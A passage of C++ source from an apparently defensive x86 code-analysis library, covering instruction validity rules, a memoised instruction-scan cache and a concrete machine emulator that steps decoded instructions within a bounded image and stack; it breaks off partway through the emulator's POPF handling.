        rules.wrong_segment[static_cast<std::uint8_t>(override_seg)]) {
      return InvalidReason::kWrongSegment;
    }
    if (rules.cs_write && override_seg == SegReg::kCs &&
        insn.has_flag(disasm::kFlagMemWrite)) {
      return InvalidReason::kCsWrite;
    }
    if (rules.absolute_memory) {
      const Operand* mem = insn.memory_operand();
      if (mem != nullptr && mem->is_absolute_memory()) {
        return InvalidReason::kAbsoluteMemory;
      }
    }
    if (rules.uninitialized_register_memory && cpu != nullptr) {
      if (modrm_address_registers_uninit(insn, *cpu) ||
          implicit_address_registers_uninit(insn, *cpu)) {
        return InvalidReason::kUninitializedRegister;
      }
    }
  }
  return InvalidReason::kValidInstruction;
}

}  // namespace mel::exec
