#include "mel/exec/instruction_cache.hpp"

#include <algorithm>
#include <cstring>

#include "mel/disasm/opcode_table.hpp"

namespace mel::exec {

namespace {

using disasm::Mnemonic;
using disasm::OpcodeInfo;
using disasm::OpGroup;
using disasm::ScanFacts;
using disasm::SegReg;

/// Position-independent validity: classify_instruction() restated over
/// ScanFacts, same rule order (the uninitialized-register rule needs CPU
/// state and never reaches the cached engine — compute_mel dispatch forces
/// the path explorer when it is on).
bool facts_valid(const ScanFacts& facts, const ValidityRules& rules) noexcept {
  if (rules.undefined_opcode && (facts.flags & disasm::kFlagUndefined)) {
    return false;
  }
  if (rules.privileged && (facts.flags & disasm::kFlagPrivileged)) {
    return false;
  }
  if (rules.io_instructions &&
      (facts.flags & (disasm::kFlagIoString | disasm::kFlagIoPort))) {
    return false;
  }
  if (rules.interrupts && (facts.flags & disasm::kFlagInterrupt)) {
    return false;
  }
  if (rules.far_control_transfer &&
      (facts.flags & disasm::kFlagBranchFar)) {
    return false;
  }
  if (rules.segment_register_load &&
      (facts.flags & disasm::kFlagSegmentLoad)) {
    return false;
  }
  if (rules.aam_zero && facts.mnemonic == Mnemonic::kAam &&
      facts.aam_immediate_zero) {
    return false;
  }
  if (facts.flags & (disasm::kFlagMemRead | disasm::kFlagMemWrite)) {
    if (rules.wrong_segment_memory &&
        facts.segment_override != SegReg::kNone &&
        rules.wrong_segment[static_cast<std::uint8_t>(
            facts.segment_override)]) {
      return false;
    }
    if (rules.cs_write && facts.segment_override == SegReg::kCs &&
        (facts.flags & disasm::kFlagMemWrite)) {
      return false;
    }
    if (rules.absolute_memory && facts.has_memory_operand &&
        facts.first_memory_absolute) {
      return false;
    }
  }
  return true;
}

/// Successor class of a valid instruction — mirrors successor_offsets()'s
/// flag-check order exactly.
CacheSucc facts_succ(const ScanFacts& facts) noexcept {
  if (facts.flags & (disasm::kFlagRet | disasm::kFlagBranchIndirect |
                     disasm::kFlagBranchFar)) {
    return CacheSucc::kNone;
  }
  if (facts.flags & disasm::kFlagCondBranch) return CacheSucc::kCondBranch;
  if (facts.flags & (disasm::kFlagUncondBranch | disasm::kFlagCall)) {
    return CacheSucc::kBranch;
  }
  return CacheSucc::kFall;
}

/// True when `flags` alone (no operand knowledge) already trip one of the
/// position-independent rules — every decode outcome carrying them is
/// invalid regardless of the bytes that follow.
bool static_flags_trip(std::uint32_t flags,
                       const ValidityRules& rules) noexcept {
  if (flags & disasm::kFlagUndefined) return true;  // Prefilter: rule is on.
  if (rules.privileged && (flags & disasm::kFlagPrivileged)) return true;
  if (rules.io_instructions &&
      (flags & (disasm::kFlagIoString | disasm::kFlagIoPort))) {
    return true;
  }
  if (rules.interrupts && (flags & disasm::kFlagInterrupt)) return true;
  if (rules.far_control_transfer && (flags & disasm::kFlagBranchFar)) {
    return true;
  }
  if (rules.segment_register_load && (flags & disasm::kFlagSegmentLoad)) {
    return true;
  }
  return false;
}

/// Can a byte value, as the FIRST byte at an offset, never begin a valid
/// instruction? Only callable when rules.undefined_opcode is on: that
/// makes every truncated/#UD decode outcome invalid, so a first byte whose
/// every full decode is also invalid is invalid, full stop.
bool first_byte_never_valid(std::uint8_t byte,
                            const ValidityRules& rules) noexcept {
  const OpcodeInfo& info = disasm::one_byte_table()[byte];
  if (info.is_prefix) return false;  // Depends on what follows.
  if (byte == 0x0F) return false;    // Two-byte page: per-second-byte.
  if (!info.defined()) return true;  // #UD always.
  if (info.mnemonic == Mnemonic::kUnknown && info.group == OpGroup::kNone) {
    return true;  // Unmodeled: decoder reports kFlagUndefined.
  }
  if (info.group != OpGroup::kNone) {
    // Invalid only if every reg-field resolution is (#UD or a static trip).
    for (std::uint8_t reg = 0; reg < 8; ++reg) {
      const disasm::GroupEntry& entry = disasm::group_entry(info.group, reg);
      if (!entry.defined()) continue;  // #UD for this reg.
      if (!static_flags_trip(info.flags | entry.extra_flags, rules)) {
        return false;
      }
    }
    return true;
  }
  return static_flags_trip(info.flags, rules);
}

// Memo entry layout (std::uint16_t), shared by the dense pair table and
// the quad hash. Zero means "not yet seen"; every stored entry has
// kMemoPresent set, so the two never collide.
constexpr std::uint16_t kMemoPresent = 0x8000;
constexpr std::uint16_t kMemoSlow = 0x4000;  ///< Structure too long: scan.
constexpr unsigned kMemoSuccShift = 8;       ///< Bits 8..10: CacheSucc.
constexpr unsigned kMemoRelShift = 11;  ///< Bits 11..12: rel width class.
constexpr std::uint16_t kMemoLengthMask = 0x00FF;

/// Quad-hash geometry: 16384 slots covers the distinct 4-grams of a text
/// window many times over; a bounded probe keeps the worst case flat (a
/// full neighborhood just means that 4-gram keeps taking the real scan).
constexpr std::size_t kQuadSlots = 16384;
constexpr std::size_t kQuadProbeLimit = 8;

std::size_t quad_slot(std::uint32_t key) noexcept {
  return (key * 0x9E3779B1u) >> 18;  // Fibonacci hash into 2^14 slots.
}

/// Encodes the offset-independent part of scan facts: length, validity /
/// successor class under the bound rules, and where to read the relative
/// displacement (0 none, 1 rel8, 2 rel16, 3 rel32 — always the encoding's
/// trailing bytes).
std::uint16_t encode_memo(const ScanFacts& facts,
                          const ValidityRules& rules) noexcept {
  std::uint16_t entry = kMemoPresent;
  entry |= static_cast<std::uint16_t>(facts.length) & kMemoLengthMask;
  const CacheSucc succ = facts_valid(facts, rules) ? facts_succ(facts)
                                                   : CacheSucc::kInvalid;
  entry |= static_cast<std::uint16_t>(static_cast<unsigned>(succ)
                                      << kMemoSuccShift);
  if (facts.has_relative) {
    const unsigned rel_class =
        facts.rel_size == 1 ? 1u : (facts.rel_size == 2 ? 2u : 3u);
    entry |= static_cast<std::uint16_t>(rel_class << kMemoRelShift);
  }
  return entry;
}

std::uint64_t make_rules_key(const ValidityRules& rules) noexcept {
  std::uint64_t key = 0;
  int bit = 0;
  const auto add = [&](bool value) {
    key |= static_cast<std::uint64_t>(value) << bit++;
  };
  add(rules.undefined_opcode);
  add(rules.privileged);
  add(rules.io_instructions);
  add(rules.interrupts);
  add(rules.far_control_transfer);
  add(rules.segment_register_load);
  add(rules.wrong_segment_memory);
  add(rules.cs_write);
  add(rules.aam_zero);
  add(rules.absolute_memory);
  add(rules.uninitialized_register_memory);
  for (bool wrong : rules.wrong_segment) add(wrong);
  return key;
}

}  // namespace

void InstructionCache::rebuild_prefilter(const ValidityRules& rules) {
  prefilter_enabled_ = rules.undefined_opcode;
  if (!prefilter_enabled_) {
    never_valid_.fill(0);
    first_memo_.fill(0);
    pair_memo_.clear();
    quad_key_.clear();
    quad_entry_.clear();
    return;
  }
  first_memo_.fill(0);
  for (int byte = 0; byte < 256; ++byte) {
    const bool never =
        first_byte_never_valid(static_cast<std::uint8_t>(byte), rules);
    never_valid_[static_cast<std::size_t>(byte)] = never ? 1 : 0;
    if (never) {
      // Prefill the first-byte memo: length 1, CacheSucc::kInvalid. The
      // DP never reads length or rel of an invalid entry.
      first_memo_[static_cast<std::size_t>(byte)] = kMemoPresent | 1;
    }
  }
  // Validity is baked into memo entries, so a rules change resets the
  // memos to empty; they refill lazily against the new rules.
  pair_memo_.assign(65536, 0);
  quad_key_.assign(kQuadSlots, 0);
  quad_entry_.assign(kQuadSlots, 0);
}

void InstructionCache::scan_range(util::ByteView bytes, std::size_t begin,
                                  std::size_t end) {
  const std::size_t n = bytes.size();
  std::uint64_t prefilter_skipped = 0;
  std::uint64_t memo_hits = 0;
  std::uint64_t scanned = 0;
  // Deterministic emission contract: for a given (window bytes, offset)
  // the stored columns are identical whether the offset was classified by
  // the prefilter, a memo hit, or a real scan — the differential battery
  // compares columns across caches of different memo warmth.
  const auto emit = [&](std::size_t offset, std::uint32_t length,
                        unsigned succ_bits, std::int32_t rel) {
    const bool wide = rel < -32768 || rel > 32767;
    len_succ_[offset] = static_cast<std::uint16_t>(
        length | (succ_bits << kCacheSuccShift) |
        (wide ? kCacheWideRel : 0));
    rel16_[offset] = wide ? 0 : static_cast<std::int16_t>(rel);
  };
  for (std::size_t offset = begin; offset < end; ++offset) {
    std::uint16_t entry = 0;
    bool from_first = false;
    if (prefilter_enabled_) {
      const std::uint8_t b0 = bytes[offset];
      const std::uint16_t fe = first_memo_[b0];
      if (fe != 0) {
        entry = fe;  // Single-byte structure: never a slow marker.
        from_first = true;
      } else if (offset + 1 < n) {
        const std::uint16_t pe =
            pair_memo_[(static_cast<std::size_t>(b0) << 8) |
                       bytes[offset + 1]];
        if ((pe & kMemoSlow) == 0) {
          entry = pe;  // Present (or unseen: 0 falls through to the scan).
        } else if (offset + 4 <= n) {
          const std::uint32_t key = util::load_le32(bytes, offset);
          const std::size_t slot = quad_slot(key);
          for (std::size_t probe = 0; probe < kQuadProbeLimit; ++probe) {
            const std::size_t i = (slot + probe) & (kQuadSlots - 1);
            if (quad_entry_[i] == 0) break;
            if (quad_key_[i] == key) {
              if ((quad_entry_[i] & kMemoSlow) == 0) entry = quad_entry_[i];
              break;
            }
          }
        }
      }
      if (entry != 0) {
        const auto len = static_cast<std::uint8_t>(entry & kMemoLengthMask);
        if (offset + len <= n) {
          std::int32_t rel = 0;
          const unsigned rel_class = (entry >> kMemoRelShift) & 0x3;
          if (rel_class != 0) {
            rel = rel_class == 1
                      ? static_cast<std::int8_t>(bytes[offset + len - 1])
                      : (rel_class == 2
                             ? static_cast<std::int32_t>(
                                   static_cast<std::int16_t>(util::load_le16(
                                       bytes, offset + len - 2)))
                             : static_cast<std::int32_t>(util::load_le32(
                                   bytes, offset + len - 4)));
          }
          emit(offset, len, (entry >> kMemoSuccShift) & 0x7, rel);
          ++(from_first ? prefilter_skipped : memo_hits);
          continue;
        }
        // Too close to the window end for the memoized length: run the
        // real (truncating) scan so emitted columns never depend on memo
        // warmth.
      }
    }
    const ScanFacts facts = disasm::scan_instruction(bytes, offset);
    ++scanned;
    emit(offset, facts.length,
         static_cast<unsigned>(facts_valid(facts, rules_)
                                   ? facts_succ(facts)
                                   : CacheSucc::kInvalid),
         facts.rel_displacement);
    // Memoize boundary-free scans by their structural bytes. Entries are a
    // pure function of those bytes (plus the bound rules), so it does not
    // matter which window or offset inserted them.
    if (prefilter_enabled_ && offset + disasm::kMaxDecodeReach <= n) {
      if (facts.structure_len <= 1) {
        first_memo_[bytes[offset]] = encode_memo(facts, rules_);
        continue;
      }
      const std::size_t pair_index =
          (static_cast<std::size_t>(bytes[offset]) << 8) | bytes[offset + 1];
      if (facts.structure_len <= 2) {
        pair_memo_[pair_index] = encode_memo(facts, rules_);
      } else {
        pair_memo_[pair_index] = kMemoPresent | kMemoSlow;
        const std::uint32_t key = util::load_le32(bytes, offset);
        const std::size_t slot = quad_slot(key);
        for (std::size_t probe = 0; probe < kQuadProbeLimit; ++probe) {
          const std::size_t i = (slot + probe) & (kQuadSlots - 1);
          if (quad_entry_[i] != 0 && quad_key_[i] != key) continue;
          quad_key_[i] = key;
          quad_entry_[i] = facts.structure_len <= 4
                               ? encode_memo(facts, rules_)
                               : (kMemoPresent | kMemoSlow);
          break;
        }
      }
    }
  }
  stats_.prefilter_skipped += prefilter_skipped;
  stats_.pair_memo_hits += memo_hits;
  stats_.scanned += scanned;
}

void InstructionCache::bind(util::ByteView bytes, const ValidityRules& rules,
                            std::uint64_t stream_offset, bool allow_reuse,
                            std::size_t build_floor) {
  const std::uint64_t key = make_rules_key(rules);
  const std::size_t n = bytes.size();
  ++stats_.binds;

  // Entries reusable from the previous binding: same rules, stream moved
  // forward (or stayed), both bindings full builds, and only entries whose
  // decode reach fit entirely inside the PREVIOUS window (later ones saw
  // its truncation boundary).
  std::size_t reused = 0;
  if (allow_reuse && bound_ && key == rules_key_ && build_floor == 0 &&
      scan_begin_ == 0 && stream_offset >= stream_offset_) {
    const std::uint64_t shift64 = stream_offset - stream_offset_;
    const std::size_t prev_n = len_succ_.size();
    if (shift64 <= prev_n) {
      const auto shift = static_cast<std::size_t>(shift64);
      if (prev_n >= shift + disasm::kMaxDecodeReach) {
        reused = std::min(n, prev_n - shift - disasm::kMaxDecodeReach + 1);
      }
      if (reused > 0 && shift > 0) {
        std::memmove(len_succ_.data(), len_succ_.data() + shift,
                     reused * sizeof(std::uint16_t));
        std::memmove(rel16_.data(), rel16_.data() + shift,
                     reused * sizeof(std::int16_t));
      }
    }
  }
  stats_.reused += reused;

  if (key != rules_key_ || !bound_) {
    rules_ = rules;
    rules_key_ = key;
    rebuild_prefilter(rules);
  }
  bound_ = true;
  stream_offset_ = stream_offset;
  scan_begin_ = build_floor;

  len_succ_.resize(n);
  rel16_.resize(n);
  if (build_floor > 0) {
    // Entries below the floor are never consulted (the decode budget trips
    // first); poison them so a misuse shows up as kInvalid, not stale data.
    const std::size_t poison_end = std::min(build_floor, n);
    for (std::size_t i = 0; i < poison_end; ++i) {
      len_succ_[i] &= static_cast<std::uint16_t>(
          ~(std::uint16_t{0x7} << kCacheSuccShift));
    }
  }
  scan_range(bytes, std::max(reused, build_floor), n);
}

void InstructionCache::update_byte(util::ByteView bytes,
                                   std::size_t mutated) {
  if (mutated >= len_succ_.size() || bytes.size() != len_succ_.size()) return;
  const std::size_t begin =
      mutated >= disasm::kMaxDecodeReach - 1
          ? mutated - (disasm::kMaxDecodeReach - 1)
          : 0;
  scan_range(bytes, std::max(begin, scan_begin_), mutated + 1);
}

}  // namespace mel::exec
