#include "mel/exec/concrete_machine.hpp"

#include <cassert>

#include "mel/disasm/decoder.hpp"

namespace mel::exec {

namespace {

using disasm::Gpr;
using disasm::Instruction;
using disasm::Mnemonic;
using disasm::Operand;
using disasm::OperandKind;
using disasm::Width;

std::uint32_t width_mask(Width width) {
  switch (width) {
    case Width::kByte:
      return 0xFFu;
    case Width::kWord:
      return 0xFFFFu;
    case Width::kDword:
      return 0xFFFFFFFFu;
  }
  return 0xFFFFFFFFu;
}

int width_bits(Width width) {
  switch (width) {
    case Width::kByte:
      return 8;
    case Width::kWord:
      return 16;
    case Width::kDword:
      return 32;
  }
  return 32;
}

}  // namespace

std::string_view stop_reason_name(StopReason reason) noexcept {
  switch (reason) {
    case StopReason::kRunning: return "running";
    case StopReason::kOutOfImage: return "out-of-image";
    case StopReason::kFault: return "fault";
    case StopReason::kInterrupt: return "interrupt";
    case StopReason::kIndirectBranch: return "indirect-branch";
    case StopReason::kUnimplemented: return "unimplemented";
    case StopReason::kBudget: return "budget";
  }
  return "?";
}

ConcreteMachine::ConcreteMachine(util::ByteView image, MachineConfig config)
    : config_(config),
      image_(image.begin(), image.end()),
      stack_(config.stack_size, 0) {
  regs_.fill(config_.garbage);
  regs_[static_cast<int>(Gpr::kEsp)] = initial_esp();
  eip_ = config_.image_base;
}

std::uint32_t ConcreteMachine::reg(Gpr reg_id) const {
  return regs_[static_cast<std::uint8_t>(reg_id) & 7];
}

void ConcreteMachine::set_reg(Gpr reg_id, std::uint32_t value) {
  regs_[static_cast<std::uint8_t>(reg_id) & 7] = value;
}

std::optional<std::uint8_t> ConcreteMachine::read8(std::uint32_t addr) const {
  if (addr >= config_.image_base &&
      addr - config_.image_base < image_.size()) {
    return image_[addr - config_.image_base];
  }
  if (addr >= config_.stack_base &&
      addr - config_.stack_base < stack_.size()) {
    return stack_[addr - config_.stack_base];
  }
  return std::nullopt;
}

std::optional<std::uint32_t> ConcreteMachine::read32(std::uint32_t addr) const {
  std::uint32_t value = 0;
  for (int i = 3; i >= 0; --i) {
    const auto byte = read8(addr + static_cast<std::uint32_t>(i));
    if (!byte) return std::nullopt;
    value = (value << 8) | *byte;
  }
  return value;
}

bool ConcreteMachine::write8(std::uint32_t addr, std::uint8_t value) {
  if (addr >= config_.image_base &&
      addr - config_.image_base < image_.size()) {
    image_[addr - config_.image_base] = value;
    return true;
  }
  if (addr >= config_.stack_base &&
      addr - config_.stack_base < stack_.size()) {
    stack_[addr - config_.stack_base] = value;
    return true;
  }
  return false;
}

bool ConcreteMachine::write32(std::uint32_t addr, std::uint32_t value) {
  for (int i = 0; i < 4; ++i) {
    if (!write8(addr + static_cast<std::uint32_t>(i),
                static_cast<std::uint8_t>(value >> (8 * i)))) {
      return false;
    }
  }
  return true;
}

std::optional<util::ByteBuffer> ConcreteMachine::read_block(
    std::uint32_t addr, std::size_t length) const {
  util::ByteBuffer out;
  out.reserve(length);
  for (std::size_t i = 0; i < length; ++i) {
    const auto byte = read8(addr + static_cast<std::uint32_t>(i));
    if (!byte) return std::nullopt;
    out.push_back(*byte);
  }
  return out;
}

std::uint32_t ConcreteMachine::effective_address(
    const Operand& operand) const {
  std::uint32_t addr = static_cast<std::uint32_t>(operand.displacement);
  if (operand.base != Gpr::kNone) addr += reg(operand.base);
  if (operand.index != Gpr::kNone) addr += reg(operand.index) * operand.scale;
  return addr;
}

std::uint32_t ConcreteMachine::alu_add(std::uint32_t a, std::uint32_t b,
                                       bool carry_in) {
  const std::uint64_t wide = static_cast<std::uint64_t>(a) + b +
                             (carry_in ? 1 : 0);
  const auto result = static_cast<std::uint32_t>(wide);
  flags_.carry = wide >> 32;
  flags_.zero = result == 0;
  flags_.sign = result >> 31;
  flags_.overflow = (~(a ^ b) & (a ^ result)) >> 31;
  return result;
}

std::uint32_t ConcreteMachine::alu_sub(std::uint32_t a, std::uint32_t b,
                                       bool borrow_in) {
  const std::uint64_t rhs = static_cast<std::uint64_t>(b) +
                            (borrow_in ? 1 : 0);
  const auto result = static_cast<std::uint32_t>(a - rhs);
  flags_.carry = static_cast<std::uint64_t>(a) < rhs;
  flags_.zero = result == 0;
  flags_.sign = result >> 31;
  flags_.overflow = ((a ^ b) & (a ^ result)) >> 31;
  return result;
}

void ConcreteMachine::set_logic_flags(std::uint32_t result) {
  flags_.carry = false;
  flags_.overflow = false;
  flags_.zero = result == 0;
  flags_.sign = result >> 31;
}

bool ConcreteMachine::condition_holds(std::uint8_t cc) const {
  switch (cc & 0xE) {  // Pairs; low bit negates.
    case 0x0: return ((cc & 1) == 0) == flags_.overflow;
    case 0x2: return ((cc & 1) == 0) == flags_.carry;
    case 0x4: return ((cc & 1) == 0) == flags_.zero;
    case 0x6: return ((cc & 1) == 0) == (flags_.carry || flags_.zero);
    case 0x8: return ((cc & 1) == 0) == flags_.sign;
    case 0xA: return false;  // Parity untracked; jp/jnp modeled as jnp.
    case 0xC: return ((cc & 1) == 0) == (flags_.sign != flags_.overflow);
    case 0xE:
      return ((cc & 1) == 0) ==
             (flags_.zero || (flags_.sign != flags_.overflow));
  }
  return false;
}

bool ConcreteMachine::push32(std::uint32_t value) {
  const std::uint32_t esp = reg(Gpr::kEsp) - 4;
  if (!write32(esp, value)) return false;
  set_reg(Gpr::kEsp, esp);
  return true;
}

std::optional<std::uint32_t> ConcreteMachine::pop32() {
  const std::uint32_t esp = reg(Gpr::kEsp);
  const auto value = read32(esp);
  if (!value) return std::nullopt;
  set_reg(Gpr::kEsp, esp + 4);
  return value;
}

RunResult ConcreteMachine::run(std::uint64_t max_instructions) {
  RunResult result;
  for (std::uint64_t i = 0; i < max_instructions; ++i) {
    const StepOutcome outcome = step();
    if (outcome.stopped) {
      RunResult final_result = outcome.result;
      final_result.instructions_executed = result.instructions_executed;
      final_result.final_eip = eip_;
      return final_result;
    }
    ++result.instructions_executed;
  }
  result.reason = StopReason::kBudget;
  result.final_eip = eip_;
  return result;
}

ConcreteMachine::StepOutcome ConcreteMachine::step() {
  StepOutcome stop;
  stop.stopped = true;

  // Fetch.
  if (eip_ < config_.image_base ||
      eip_ - config_.image_base >= image_.size()) {
    stop.result.reason = StopReason::kOutOfImage;
    return stop;
  }
  const std::size_t offset = eip_ - config_.image_base;
  const Instruction insn = disasm::decode_instruction(image_, offset);
  stop.result.stop_offset = offset;
  if (tracer_) tracer_(eip_, insn);

  // Static fault classes first (privileged, I/O, wrong segment, ...): the
  // machine faults exactly where the static DAWN policy says hardware
  // would. Interrupts are a clean stop (the syscall boundary).
  if (insn.has_flag(disasm::kFlagInterrupt)) {
    stop.result.reason = StopReason::kInterrupt;
    return stop;
  }
  const InvalidReason static_reason =
      classify_instruction(insn, ValidityRules::dawn());
  if (static_reason != InvalidReason::kValidInstruction) {
    stop.result.reason = StopReason::kFault;
    stop.result.fault_reason = static_reason;
    return stop;
  }

  const std::uint32_t next_eip =
      config_.image_base + static_cast<std::uint32_t>(insn.end_offset());

  const auto fault = [&](InvalidReason reason) {
    stop.result.reason = StopReason::kFault;
    stop.result.fault_reason = reason;
    return stop;
  };
  const auto unimplemented = [&]() {
    stop.result.reason = StopReason::kUnimplemented;
    return stop;
  };
  const auto done = [&]() {
    eip_ = next_eip;
    stop.stopped = false;
    return stop;
  };
  const auto jump_to = [&](std::uint32_t target) {
    eip_ = target;
    stop.stopped = false;
    return stop;
  };

  // Operand access helpers (width-aware).
  const auto read_operand = [&](const Operand& op) -> std::optional<std::uint32_t> {
    switch (op.kind) {
      case OperandKind::kImmediate:
        return static_cast<std::uint32_t>(op.immediate) &
               width_mask(op.width);
      case OperandKind::kRegister: {
        const auto raw = static_cast<std::uint8_t>(op.reg);
        if (op.width == Width::kByte) {
          const std::uint32_t full = regs_[raw & 3];
          return (raw >= 4) ? (full >> 8) & 0xFF : full & 0xFF;
        }
        return regs_[raw] & width_mask(op.width);
      }
      case OperandKind::kMemory: {
        const std::uint32_t addr = effective_address(op);
        if (op.width == Width::kByte) {
          const auto byte = read8(addr);
          if (!byte) return std::nullopt;
          return *byte;
        }
        if (op.width == Width::kWord) {
          const auto lo = read8(addr);
          const auto hi = read8(addr + 1);
          if (!lo || !hi) return std::nullopt;
          return static_cast<std::uint32_t>(*lo) |
                 (static_cast<std::uint32_t>(*hi) << 8);
        }
        return read32(addr);
      }
      default:
        return std::nullopt;
    }
  };
  const auto write_operand = [&](const Operand& op,
                                 std::uint32_t value) -> bool {
    switch (op.kind) {
      case OperandKind::kRegister: {
        const auto raw = static_cast<std::uint8_t>(op.reg);
        if (op.width == Width::kByte) {
          std::uint32_t& full = regs_[raw & 3];
          if (raw >= 4) {
            full = (full & 0xFFFF00FFu) | ((value & 0xFFu) << 8);
          } else {
            full = (full & 0xFFFFFF00u) | (value & 0xFFu);
          }
          return true;
        }
        if (op.width == Width::kWord) {
          regs_[raw] = (regs_[raw] & 0xFFFF0000u) | (value & 0xFFFFu);
          return true;
        }
        regs_[raw] = value;
        return true;
      }
      case OperandKind::kMemory: {
        const std::uint32_t addr = effective_address(op);
        if (op.width == Width::kByte) {
          return write8(addr, static_cast<std::uint8_t>(value));
        }
        if (op.width == Width::kWord) {
          return write8(addr, static_cast<std::uint8_t>(value)) &&
                 write8(addr + 1, static_cast<std::uint8_t>(value >> 8));
        }
        return write32(addr, value);
      }
      default:
        return false;
    }
  };

  // Width-aware flag fix for sub-32-bit ALU: recompute ZF/SF at width.
  const auto fix_flags_for_width = [&](std::uint32_t result, Width width) {
    const std::uint32_t masked = result & width_mask(width);
    flags_.zero = masked == 0;
    flags_.sign = (masked >> (width_bits(width) - 1)) & 1;
  };

  const Operand& dst = insn.operands[0];
  const Operand& src = insn.operands[1];

  switch (insn.mnemonic) {
    case Mnemonic::kNop:
    case Mnemonic::kWait:
      return done();

    case Mnemonic::kMov: {
      if (dst.kind == OperandKind::kSegment ||
          src.kind == OperandKind::kSegment) {
        return unimplemented();  // Segment moves (8C is valid but rare).
      }
      const auto value = read_operand(src);
      if (!value) return fault(InvalidReason::kIllegalMemory);
      if (!write_operand(dst, *value)) {
        return fault(InvalidReason::kIllegalMemory);
      }
      return done();
    }

    case Mnemonic::kLea:
      if (!write_operand(dst, effective_address(src))) {
        return fault(InvalidReason::kIllegalMemory);
      }
      return done();

    case Mnemonic::kXchg: {
      const auto a = read_operand(dst);
      const auto b = read_operand(src);
      if (!a || !b) return fault(InvalidReason::kIllegalMemory);
      if (!write_operand(dst, *b) || !write_operand(src, *a)) {
        return fault(InvalidReason::kIllegalMemory);
      }
      return done();
    }

    case Mnemonic::kAdd:
    case Mnemonic::kAdc:
    case Mnemonic::kSub:
    case Mnemonic::kSbb:
    case Mnemonic::kCmp:
    case Mnemonic::kAnd:
    case Mnemonic::kOr:
    case Mnemonic::kXor:
    case Mnemonic::kTest: {
      const auto a = read_operand(dst);
      const auto b = read_operand(src);
      if (!a || !b) return fault(InvalidReason::kIllegalMemory);
      std::uint32_t result = 0;
      switch (insn.mnemonic) {
        case Mnemonic::kAdd: result = alu_add(*a, *b, false); break;
        case Mnemonic::kAdc: result = alu_add(*a, *b, flags_.carry); break;
        case Mnemonic::kSub:
        case Mnemonic::kCmp: result = alu_sub(*a, *b, false); break;
        case Mnemonic::kSbb: result = alu_sub(*a, *b, flags_.carry); break;
        case Mnemonic::kAnd:
        case Mnemonic::kTest:
          result = *a & *b;
          set_logic_flags(result);
          break;
        case Mnemonic::kOr:
          result = *a | *b;
          set_logic_flags(result);
          break;
        case Mnemonic::kXor:
          result = *a ^ *b;
          set_logic_flags(result);
          break;
        default: break;
      }
      fix_flags_for_width(result, dst.width);
      if (insn.mnemonic != Mnemonic::kCmp &&
          insn.mnemonic != Mnemonic::kTest) {
        if (!write_operand(dst, result)) {
          return fault(InvalidReason::kIllegalMemory);
        }
      }
      return done();
    }

    case Mnemonic::kInc:
    case Mnemonic::kDec: {
      const auto value = read_operand(dst);
      if (!value) return fault(InvalidReason::kIllegalMemory);
      const bool saved_carry = flags_.carry;  // INC/DEC preserve CF.
      const std::uint32_t result =
          insn.mnemonic == Mnemonic::kInc ? alu_add(*value, 1, false)
                                          : alu_sub(*value, 1, false);
      flags_.carry = saved_carry;
      fix_flags_for_width(result, dst.width);
      if (!write_operand(dst, result)) {
        return fault(InvalidReason::kIllegalMemory);
      }
      return done();
    }

    case Mnemonic::kNot: {
      const auto value = read_operand(dst);
      if (!value) return fault(InvalidReason::kIllegalMemory);
      if (!write_operand(dst, ~*value)) {
        return fault(InvalidReason::kIllegalMemory);
      }
      return done();
    }

    case Mnemonic::kNeg: {
      const auto value = read_operand(dst);
      if (!value) return fault(InvalidReason::kIllegalMemory);
      const std::uint32_t result = alu_sub(0, *value, false);
      fix_flags_for_width(result, dst.width);
      if (!write_operand(dst, result)) {
        return fault(InvalidReason::kIllegalMemory);
      }
      return done();
    }

    case Mnemonic::kShl:
    case Mnemonic::kSal:
    case Mnemonic::kShr:
    case Mnemonic::kSar:
    case Mnemonic::kRol:
    case Mnemonic::kRor: {
      const auto value = read_operand(dst);
      const auto count_raw = read_operand(src);
      if (!value || !count_raw) {
        return fault(InvalidReason::kIllegalMemory);
      }
      const int bits = width_bits(dst.width);
      const std::uint32_t count = *count_raw & 0x1F;
      std::uint32_t v = *value & width_mask(dst.width);
      for (std::uint32_t step_count = 0; step_count < count; ++step_count) {
        switch (insn.mnemonic) {
          case Mnemonic::kShl:
          case Mnemonic::kSal:
            flags_.carry = (v >> (bits - 1)) & 1;
            v = (v << 1) & width_mask(dst.width);
            break;
          case Mnemonic::kShr:
            flags_.carry = v & 1;
            v >>= 1;
            break;
          case Mnemonic::kSar: {
            flags_.carry = v & 1;
            const std::uint32_t msb = v & (1u << (bits - 1));
            v = (v >> 1) | msb;
            break;
          }
          case Mnemonic::kRol: {
            const std::uint32_t msb = (v >> (bits - 1)) & 1;
            v = ((v << 1) | msb) & width_mask(dst.width);
            flags_.carry = msb;
            break;
          }
          case Mnemonic::kRor: {
            const std::uint32_t lsb = v & 1;
            v = (v >> 1) | (lsb << (bits - 1));
            flags_.carry = lsb;
            break;
          }
          default: break;
        }
      }
      if (count != 0) fix_flags_for_width(v, dst.width);
      if (!write_operand(dst, v)) {
        return fault(InvalidReason::kIllegalMemory);
      }
      return done();
    }

    case Mnemonic::kPush: {
      if (dst.kind == OperandKind::kSegment) return unimplemented();
      const auto value = read_operand(dst);
      if (!value) return fault(InvalidReason::kIllegalMemory);
      if (!push32(*value)) return fault(InvalidReason::kIllegalMemory);
      return done();
    }

    case Mnemonic::kPop: {
      if (dst.kind == OperandKind::kSegment) return unimplemented();
      const auto value = pop32();
      if (!value) return fault(InvalidReason::kIllegalMemory);
      if (!write_operand(dst, *value)) {
        return fault(InvalidReason::kIllegalMemory);
      }
      return done();
    }

    case Mnemonic::kPusha: {
      const std::uint32_t original_esp = reg(Gpr::kEsp);
      for (int r = 0; r < 8; ++r) {
        const std::uint32_t value =
            r == static_cast<int>(Gpr::kEsp) ? original_esp
                                             : regs_[r];
        if (!push32(value)) {
          return fault(InvalidReason::kIllegalMemory);
        }
      }
      return done();
    }

    case Mnemonic::kPopa: {
      for (int r = 7; r >= 0; --r) {
        const auto value = pop32();
        if (!value) return fault(InvalidReason::kIllegalMemory);
        if (r != static_cast<int>(Gpr::kEsp)) {
          regs_[r] = *value;  // ESP slot is discarded per the ISA.
        }
      }
      return done();
    }

    case Mnemonic::kPushf: {
      std::uint32_t eflags = 0x2;
      if (flags_.carry) eflags |= 0x1;
      if (flags_.zero) eflags |= 0x40;
      if (flags_.sign) eflags |= 0x80;
      if (flags_.overflow) eflags |= 0x800;
      if (!push32(eflags)) return fault(InvalidReason::kIllegalMemory);
      return done();
    }

    case Mnemonic::kPopf: {
      const auto eflags = pop32();
      if (!eflags) return fault(InvalidReason::kIllegalMemory);
